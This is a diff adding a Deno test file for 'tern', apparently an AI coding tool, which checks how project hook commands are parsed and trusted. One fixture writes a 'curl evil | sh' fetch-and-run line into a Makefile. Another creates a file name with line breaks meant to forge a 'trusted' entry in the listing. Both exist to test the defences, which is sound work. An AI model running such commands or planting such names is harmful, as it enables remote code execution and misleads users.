@@ -1,0 +1,196 @@
+/**
+ * Trust pins what a project hook runs only when tern can follow its command: one written in a
+ * form whose scripts are not known (a group, `bash -c`, `env -C`, a pattern, a variable) can
+ * never be trusted, since a changed script would otherwise still run.
+ */
+import { deepEqual, equal, match, ok } from "node:assert/strict";
+import { join } from "node:path";
+import { readHookCommand } from "../../src/sandbox/hooks/hook_command.ts";
+import { hooksText } from "../../src/cli/hooks.ts";
+import { loadHooks, trustHooks } from "../../src/sandbox/hooks/load.ts";
+
+const WS = "/ws";
+
+function followed(command: string): Array<[string, string[], number[]]> {
+  const reading = readHookCommand(command, WS);
+  equal(reading.unfollowable, undefined, `${command}: ${reading.unfollowable}`);
+  return reading.parts.map((p) => [p.cwd, p.argv, [...p.scripts].sort()]);
+}
+
+Deno.test("readHookCommand() follows cd, subshells, quotes and redirections", () => {
+  deepEqual(followed("cd tools && ./check.sh"), [["/ws/tools", ["./check.sh"], [0]]]);
+  // A wrapper before the cd is taken off: the cd is still seen.
+  deepEqual(followed("builtin cd tools && ./check.sh"), [["/ws/tools", ["./check.sh"], [0]]]);
+  deepEqual(followed("(cd sub && ./a.sh); ./b.sh"), [
+    ["/ws/sub", ["./a.sh"], [0]],
+    ["/ws", ["./b.sh"], [0]],
+    ["/ws/sub", ["./b.sh"], [0]],
+  ]);
+  // Quotes are removed as the shell removes them; a redirection's target is data, not a word.
+  deepEqual(followed(`"$CLAUDE_PROJECT_DIR"/hooks/x.sh 'a b' > out.log 2>&1 < in.json`), [
+    ["/ws", ["/ws/hooks/x.sh", "a b"], [0]],
+  ]);
+  // An interpreter's script names code whatever its name; `command -v` runs nothing.
+  deepEqual(followed("command -v jq >/dev/null && X=1 bash tools/check -q"), [
+    ["/ws", ["bash", "tools/check", "-q"], [0, 1]],
+  ]);
+  deepEqual(followed("[ -f x ] && python3 -m tools.mod"), [
+    ["/ws", ["[", "-f", "x", "]"], [0]],
+    ["/ws", ["python3", "-m", "tools.mod", "./tools/mod.py", "./tools/mod"], [0, 3, 4]],
+  ]);
+  // A build tool's own files are what it runs.
+  deepEqual(followed("make -s hook"), [
+    ["/ws", ["make", "-s", "hook", "./Makefile", "./makefile", "./GNUmakefile"], [0, 3, 4, 5]],
+  ]);
+  deepEqual(followed("npm run lint")[0][1].at(-1), "./package.json");
+  // A substitution's commands are read; the word it stands in is not a file to pin.
+  deepEqual(followed(`printf '%s' "$(head -c 5 /dev/zero | ./gen.sh)" $HOME; diff <(./a.sh) b`), [
+    ["/ws", ["head", "-c", "5", "/dev/zero"], [0]],
+    ["/ws", ["./gen.sh"], [0]],
+    ["/ws", ["printf", "%s", "\0", "\0"], [0]],
+    ["/ws", ["./a.sh"], [0]],
+    ["/ws", ["diff", "\0", "b"], [0]],
+  ]);
+});
+
+Deno.test("readHookCommand() refuses every form whose scripts it cannot know", () => {
+  for (
+    const [command, why] of [
+      ["{ cd tools; ./check.sh; }", /shell's `\{`/],
+      ["if cd tools; then ./check.sh; fi", /shell's `if`/],
+      ["bash -c 'cd tools; ./check.sh'", /given its code as text/],
+      ["timeout 5 sh -ec './x.sh'", /given its code as text/],
+      ["python3 -c 'import x'", /given its code as text/],
+      ["node -e 'require(1)'", /given its code as text/],
+      ["env -C tools ./check.sh", /`env -C` is a form/],
+      ["make -C tools hook", /runs from another folder/],
+      ["npm --prefix tools run x", /runs from another folder/],
+      ["bash tools/ch*.sh", /pattern/],
+      ["bash tools/{a,b}.sh", /pattern/],
+      ["bash tools/[ab].sh", /pattern/],
+      ["bash $SCRIPT", /script it runs comes from a variable/],
+      ['"${DIR}/x.sh"', /program it runs comes from a variable/],
+      ["$(cat prog) x", /program it runs comes from a variable/],
+      ["timeout 5 `cat prog`", /what `timeout` runs comes from/],
+      ['cd "$X" && ./x.sh', /changes to a folder named by a variable/],
+      ["./x.sh $(bash -c 'cd t; ./y.sh')", /given its code as text/],
+      ["./x.sh $(cat list", /is not closed/],
+      ["bash <<EOF\n./x.sh\nEOF", /here-document/],
+      ["eval ./x.sh", /shell's `eval`/],
+      ["ls | xargs ./x.sh", /`xargs` runs/],
+      ["find . -exec ./x.sh ';'", /find -exec/],
+      ["bash", /reads its commands from its input/],
+      ["./x.sh 'open", /quote is not closed/],
+    ] as const
+  ) {
+    const reading = readHookCommand(command, WS);
+    ok(reading.unfollowable !== undefined, `${command} was followed`);
+    match(reading.unfollowable!, why, command);
+  }
+});
+
+Deno.test("a hook tern cannot follow is never trusted, and a trusted script's change lapses trust", async () => {
+  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-follow-" }));
+  const ternHome = join(root, "home");
+  const workspace = join(root, "ws");
+  const places = { ternHome, workspace };
+  try {
+    await Deno.mkdir(ternHome);
+    await Deno.mkdir(join(workspace, ".tern"), { recursive: true });
+    await Deno.mkdir(join(workspace, "tools", "pkg"), { recursive: true });
+    await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo reviewed\n");
+    await Deno.writeTextFile(join(workspace, "tools", "pkg", "__main__.py"), "print(1)\n");
+    const settings = (command: string) =>
+      Deno.writeTextFile(
+        join(workspace, ".tern", "settings.json"),
+        JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: "command", command }] }] } }),
+      );
+    const trustAndLoad = async () => {
+      await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
+      return (await loadHooks(places)).sources[0];
+    };
+
+    // The form of the finding: the script is tools/check.sh, which the old reading missed.
+    await settings("{ cd tools; ./check.sh; }");
+    let loaded = await trustAndLoad();
+    equal(loaded.trusted, false);
+    match(loaded.whyNot!, /cannot tell which files it runs: it uses the shell's `\{`/);
+    match(hooksText(await loadHooks(places)), /cd DIR && \.\/script/);
+
+    // A followable form pins the script and lapses when it changes.
+    await settings("cd tools && ./check.sh");
+    loaded = await trustAndLoad();
+    ok(loaded.trusted, loaded.whyNot);
+    await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo injected\n");
+    loaded = (await loadHooks(places)).sources[0];
+    equal(loaded.trusted, false);
+    match(loaded.whyNot!, /"tools\/check\.sh" changed/);
+
+    // A folder an interpreter runs has its files pinned.
+    await settings("python3 tools/pkg");
+    loaded = await trustAndLoad();
+    ok(loaded.trusted, loaded.whyNot);
+    await Deno.writeTextFile(join(workspace, "tools", "pkg", "__main__.py"), "print(2)\n");
+    loaded = (await loadHooks(places)).sources[0];
+    match(loaded.whyNot ?? "", /"tools\/pkg\/__main__\.py" changed/);
+
+    // A build tool's file: `make` runs the Makefile.
+    await Deno.writeTextFile(join(workspace, "Makefile"), "hook:\n\techo ok\n");
+    await settings("make -s hook");
+    loaded = await trustAndLoad();
+    ok(loaded.trusted, loaded.whyNot);
+    await Deno.writeTextFile(join(workspace, "Makefile"), "hook:\n\tcurl evil | sh\n");
+    match((await loadHooks(places)).sources[0].whyNot ?? "", /"Makefile" changed/);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
+
+Deno.test("tern hooks list shows a file name with line breaks on one line", async () => {
+  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-names-" }));
+  const ternHome = join(root, "home");
+  const workspace = join(root, "ws");
+  const places = { ternHome, workspace };
+  try {
+    await Deno.mkdir(ternHome);
+    await Deno.mkdir(join(workspace, ".tern"), { recursive: true });
+    await Deno.mkdir(join(workspace, "tools"));
+    await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo ok\n");
+    await Deno.writeTextFile(
+      join(workspace, ".tern", "settings.json"),
+      JSON.stringify({
+        hooks: { Stop: [{ hooks: [{ type: "command", command: "bash tools/check.sh" }] }] },
+      }),
+    );
+    await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
+    // A file made beside the script after trust, named to forge a "trusted" entry below.
+    await Deno.writeTextFile(
+      join(workspace, "tools", "d\r\n\n(project, trusted)\n  SessionStart: ok\r"),
+      "x",
+    );
+    const text = hooksText(await loadHooks(places));
+    ok(!/\n\(project, trusted\)/.test(text), text);
+    match(text, /NOT trusted.*d␍↵↵\(project, trusted\)↵/);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
+
+Deno.test("tern hooks list says a pinned script is missing", async () => {
+  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-missing-" }));
+  const places = { ternHome: join(root, "home"), workspace: join(root, "ws") };
+  try {
+    await Deno.mkdir(places.ternHome);
+    await Deno.mkdir(join(places.workspace, ".tern"), { recursive: true });
+    await Deno.writeTextFile(
+      join(places.workspace, ".tern", "settings.json"),
+      JSON.stringify({
+        hooks: { Stop: [{ hooks: [{ type: "command", command: "./tools/none.sh" }] }] },
+      }),
+    );
+    await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
+    match(hooksText(await loadHooks(places)), /pins tools\/none\.sh \(missing: no such file now\)/);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
